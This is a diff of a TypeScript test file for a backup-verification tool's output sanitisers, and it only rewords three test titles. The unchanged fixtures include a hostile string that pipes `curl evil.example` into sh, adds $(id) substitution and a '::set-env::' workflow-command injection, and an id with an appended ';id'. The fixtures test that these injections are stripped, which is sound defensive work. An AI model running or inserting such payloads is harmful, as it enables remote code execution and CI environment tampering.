@@ -6,11 +6,11 @@ import { verdictOutput } from '../../src/report/report.ts'
 const id = 'files-2026-03-02T12-00-00.000000Z'
 const shell = '`curl evil.example | sh`; $(id) && "x" \n::set-env::'
 
-test('the output ids holds only ids', () => {
+test('the output ids contains only ids', () => {
   expect(JSON.parse(idsOutput([id, shell, `${id};id`]))).toEqual([id])
 })
 
-test('a JSON output keeps names, times and our own command, and loses every other text', () => {
+test('a JSON output keeps names, times and our own command, and drops all other text', () => {
   const command = `backproof restore --id ${id} --into '\${RESTORE_URL}' --policy ops/backup.yml`
   const good = { source: 'files', met: true, at: '2026-03-02T12:00:00.000Z', restore: command, stores: ['a'] }
   expect(JSON.parse(jsonOutput(JSON.stringify([good])))).toEqual([good])
@@ -18,7 +18,7 @@ test('a JSON output keeps names, times and our own command, and loses every othe
   expect(JSON.parse(jsonOutput(bad))).toEqual([{ source: 'files', deep: {} }])
 })
 
-test("a gate's output carries kinds, and neither notes nor messages", () => {
+test('the output of a gate contains kinds, but neither notes nor messages', () => {
   const catalog = { source: 'files', entries: [], unread: [{ store: 'a', message: shell }], damaged: [], expected: [] }
   const conditions = { maxAgeMs: 1, verifiedWithinMs: undefined, copies: 1, tags: [] }
   const verdict = judgeGate({ name: 'files', engine: 'files' }, catalog as never, conditions, {
